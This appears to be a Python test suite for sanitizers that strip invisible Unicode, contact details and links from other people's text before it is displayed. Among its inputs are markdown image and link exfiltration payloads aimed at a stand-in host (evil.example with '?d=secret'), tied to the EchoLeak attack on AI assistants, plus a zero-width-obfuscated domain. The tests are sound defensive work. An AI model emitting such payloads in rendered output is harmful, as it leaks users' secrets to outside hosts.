"""What somebody else wrote becomes one visible line (safety H13, H4)."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.words.visible import plain, without_contacts


@given(st.text(), st.integers(1, 200))
def test_a_line_is_one_line_within_its_limit_with_nothing_hidden(text: str, limit: int):
    line = plain(text, limit)
    assert len(line) <= limit
    assert all(char.isprintable() for char in line)
    assert "<" not in line
    assert line == line.strip()


@given(st.text())
def test_a_line_stays_as_it_is_when_it_is_made_plain_again(text: str):
    line = plain(text, 100)
    assert plain(line, 100) == line


@pytest.mark.parametrize(
    "text", ["Möllans Möbler", "L’Atelier d’Évreux", "¿Qué tal? 18 mil", "Nguyễn Thiết", "3 × 4 = 12 £"]
)
def test_what_people_write_stays(text: str):
    assert plain(text, 100) == unicodedata.normalize("NFC", text)


@pytest.mark.parametrize(
    "text",
    [
        "cha\u200birs",
        "cha\ufe0firs",
        "cha\U000e0041irs",
        "cha\u202eirs",
        "cha\u00adirs",
        "cha\u3164irs",
        "cha\u2800irs",
    ],
)
def test_what_does_not_show_is_gone(text: str):
    assert plain(text, 100) == "chairs"


def test_accents_do_not_pile_up():
    assert len(plain("a" + "\u0336" * 50, 100)) <= 3


@pytest.mark.parametrize(
    "contact",
    [
        "https://evil.example/pay?x=1",
        "www.evil.example",
        "evil.shop/win",
        "tom@chairs.co.uk",
        "+44 7700 900123",
        "07700900123",
        "070-174 06 05",
        "06 39 98 02 01",
        "300 555 0201",
        "(0117) 496 0123",
    ],
)
def test_no_way_to_be_reached_passes(contact: str):
    assert without_contacts(f"Yes, £3.50 each, see {contact} today", 200) == "Yes, £3.50 each, see … today"


@pytest.mark.parametrize(
    "text",
    [
        "2500000 COP por 50",
        "1.800.000 COP antes del 20.12.2026",
        "1 800 000 COP",
        "12500000 COP",
        "entre 1.200.000-1.500.000",
        "4,50 € pièce, le 05/12/2026 17:00",
        "3.50 x 40 = 140.00",
        "18 mil c/u, 5 dias habiles",
        "2026-12-05 16 h",
    ],
)
def test_prices_and_dates_stay(text: str):
    """safety.md: a vendor whose price has seven digits costs the honest path nothing."""
    assert without_contacts(text, 200) == text


@pytest.mark.parametrize("text", ["![x](https://evil.example/a.png?d=secret)", "[tu vale](https://evil.example/v?d=)"])
def test_no_half_of_a_markdown_link_stays_in_quoted_words(text: str) -> None:
    """EchoLeak (CVE-2025-32711): a markdown image was fetched with a secret in its address."""
    shown = without_contacts(text, 160)
    assert not set("[]`") & set(shown)
    assert "evil" not in shown


def test_an_address_of_any_domain_is_taken_out_of_quoted_words() -> None:
    """Zero-width signs were taken out, and an address with an unlisted ending was left."""
    assert "evil" not in without_contacts("see e\u200bvil.xyz/steal now", 160)
    assert without_contacts("4.20 each, 3/4 inch", 160) == "4.20 each, 3/4 inch"
